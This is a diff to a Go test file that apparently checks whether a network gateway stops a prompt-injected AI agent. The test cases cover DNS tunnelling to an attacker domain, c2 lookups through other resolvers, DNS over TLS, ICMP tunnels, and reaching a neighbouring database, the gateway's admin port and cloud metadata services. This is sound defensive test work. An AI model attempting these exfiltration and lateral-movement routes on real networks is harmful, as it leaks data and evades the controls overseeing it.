@@ -23,7 +23,7 @@ func question(name string) flow { return flow{class: audit.DNSActivity, host: na
 
 // steps is the chain: first what the agent is for, then what the injected prompt
 // asks of it.
-func steps() []step {
+func steps(gateway netip.Addr) []step {
 	tunnel := "nfxhm33jmnssandxgeys.t." + lab.AttackerDomain
 	return []step{
 		// What it is for.
@@ -47,7 +47,7 @@ func steps() []step {
 		{"permitted address, other Host", "Host " + lab.ExfilName + " at " + lab.Mirror.String(), Refused, fronted(lab.Mirror, lab.ExfilName), tcp(lab.Mirror, 80, lab.ExfilName)},
 
 		// Exfiltrate through what is not looked at.
-		{"DNS tunnelling", "A " + tunnel, Refused, lookup(tunnel, lab.GatewayAddr), question(tunnel)},
+		{"DNS tunnelling", "A " + tunnel, Refused, resolve(tunnel), question(tunnel)},
 		{"another resolver, UDP", "A c2." + lab.AttackerDomain + " at " + lab.Exfil.String(), Refused, lookup(lab.MaliciousName, lab.Exfil), question(lab.MaliciousName)},
 		{"another resolver, TCP", "A www." + lab.AttackerDomain + " at " + lab.Exfil.String(), Refused, lookupTCP("www."+lab.AttackerDomain, lab.Exfil), question("www." + lab.AttackerDomain)},
 		{"DNS over TLS", "TCP " + lab.Exfil.String() + ":853", Refused, connect(lab.Exfil, 853), tcp(lab.Exfil, 853, "")},
@@ -55,8 +55,8 @@ func steps() []step {
 		{"ICMP tunnel", "echo request to " + lab.Exfil.String(), Refused, ping(lab.Exfil), flow{dst: netip.AddrPortFrom(lab.Exfil, 0), proto: policy.ICMP}},
 
 		// Move sideways.
-		{"database next door", "TCP " + lab.DatabaseIP.String() + ":5432", Refused, connect(lab.DatabaseIP, 5432), tcp(lab.DatabaseIP, 5432, "")},
-		{"the gateway's admin port", "TCP " + lab.GatewayAddr.String() + ":9180", Refused, connect(lab.GatewayAddr, 9180), tcp(lab.GatewayAddr, 9180, "")},
+		{"database next door", "TCP " + lab.DatabaseIP.String() + ":5432", Refused, postgres(lab.DatabaseIP), tcp(lab.DatabaseIP, 5432, "")},
+		{"the gateway's admin port", "TCP " + gateway.String() + ":9180", Refused, connect(gateway, 9180), tcp(gateway, 9180, "")},
 		{"wire server", "GET http://" + lab.WireServer.String(), Direct, get("http://" + lab.WireServer.String() + "/"), tcp(lab.WireServer, 80, "")},
 		{"metadata service", "GET http://" + lab.Metadata.String(), Direct, get("http://" + lab.Metadata.String() + "/"), tcp(lab.Metadata, 80, "")},
 		{"another agent, same subnet", "GET http://10.20.1.21", Direct, get("http://10.20.1.21/"), tcp(netip.MustParseAddr("10.20.1.21"), 80, "")},
